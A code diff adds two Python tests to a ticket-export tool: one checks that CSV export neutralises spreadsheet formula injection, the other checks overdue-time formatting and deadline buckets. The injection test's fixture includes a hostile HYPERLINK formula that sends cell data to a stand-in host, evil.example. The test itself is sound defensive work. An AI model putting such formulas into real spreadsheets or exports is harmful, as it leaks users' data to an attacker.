@@ -353,3 +353,46 @@ def test_core_does_not_import_textual():
         [sys.executable, "-c", code], capture_output=True, text=True, check=True, timeout=60
     )
     assert out.stdout.strip() == "False"
+
+
+def test_csv_cells_a_spreadsheet_would_evaluate_are_neutralised(tmp_path: Path):
+    from cxconsole.tickets.export import neutralise, write_export
+
+    assert [neutralise(c) for c in ("=1+1", "+61 4", "-3", "@SUM(A1)", "\tx", "\rx", "ok")] == [
+        "'=1+1",
+        "'+61 4",
+        "'-3",
+        "'@SUM(A1)",
+        "'\tx",
+        "'\rx",
+        "ok",
+    ]
+    evil = ticket(
+        comment='=HYPERLINK("http://evil.example/?"&A1,"click")',
+        emailAddress="@attacker",
+        phoneNumber="+61400000000",
+    )
+    target = write_export([evil], tmp_path / "t.csv", "csv")
+    row = next(csv.DictReader(target.read_text("utf-8-sig").splitlines(keepends=True)))
+    assert row["comment"].startswith("'=HYPERLINK")
+    assert row["emailAddress"] == "'@attacker"
+    assert row["phoneNumber"] == "'+61400000000"
+    assert row["ticketID"] == str(evil.ticketID)  # numbers stay numbers
+    # JSON is data, not a sheet: written as sent.
+    json_target = write_export([evil], tmp_path / "t.json", "json")
+    assert json.loads(json_target.read_text("utf-8"))[0]["comment"] == evil.comment
+
+
+def test_overdue_times_are_whole_and_buckets_count_time_left():
+    from datetime import UTC, datetime, timedelta
+
+    from cxconsole.tickets.timeleft import bucket_counts, format_time_left
+
+    assert format_time_left(-timedelta(days=19, hours=2, minutes=5)) == "-19d 2h"
+    now = datetime(2026, 1, 10, tzinfo=UTC)
+    stamp = (now - timedelta(hours=10)).isoformat()
+    tickets = [ticket(timestamp=stamp, timelimit=h) for h in (5, 20, 50, 100, 200)]
+    tickets.append(ticket(timestamp="", timelimit=5))
+    counts = bucket_counts(tickets, now)
+    assert counts == {"overdue": 1, "24h": 1, "72h": 1, "later": 2, "unknown": 1}
+    assert sum(counts.values()) == len(tickets)  # counts add up
